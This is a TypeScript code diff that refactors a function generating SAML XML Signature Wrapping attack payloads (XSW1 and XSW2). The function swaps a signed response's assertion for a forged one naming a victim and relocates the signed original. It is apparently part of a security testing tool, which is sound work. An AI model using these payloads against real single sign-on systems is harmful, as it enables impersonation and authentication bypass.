@@ -83,28 +83,20 @@ function evilAssertion(assertion: any, victim: string): any {
 export function wrappingAttacks(signedResponse: string, signedAssertionResponse: string, victim: string): Record<string, string> {
   const attacks: Record<string, string> = {};
 
-  // XSW1: a new evil response; the original signed response moves inside the signature.
-  {
+  // XSW1/XSW2: a new evil response; the original signed response moves inside the signature
+  // (XSW1) or beside it, detached (XSW2).
+  const responseShape = (place: (root: any, original: any) => void) => {
     const doc = parse(signedResponse);
     const original = doc.documentElement.cloneNode(true);
     const root = doc.documentElement as any;
     root.setAttribute('ID', `_evilresp${randomUUID()}`);
     const assertion = child(root, SAML, 'Assertion');
     root.replaceChild(evilAssertion(assertion, victim), assertion);
-    child(root, DS, 'Signature').appendChild(original);
-    attacks.XSW1 = serialize(doc);
-  }
-  // XSW2: as XSW1, but the original response sits beside the signature (detached).
-  {
-    const doc = parse(signedResponse);
-    const original = doc.documentElement.cloneNode(true);
-    const root = doc.documentElement as any;
-    root.setAttribute('ID', `_evilresp${randomUUID()}`);
-    const assertion = child(root, SAML, 'Assertion');
-    root.replaceChild(evilAssertion(assertion, victim), assertion);
-    root.insertBefore(original, child(root, DS, 'Signature'));
-    attacks.XSW2 = serialize(doc);
-  }
+    place(root, original);
+    return serialize(doc);
+  };
+  attacks.XSW1 = responseShape((root, original) => child(root, DS, 'Signature').appendChild(original));
+  attacks.XSW2 = responseShape((root, original) => root.insertBefore(original, child(root, DS, 'Signature')));
   const shape = (build: (root: any, original: any, evil: any) => void) => {
     const doc = parse(signedAssertionResponse);
     const root = doc.documentElement as any;
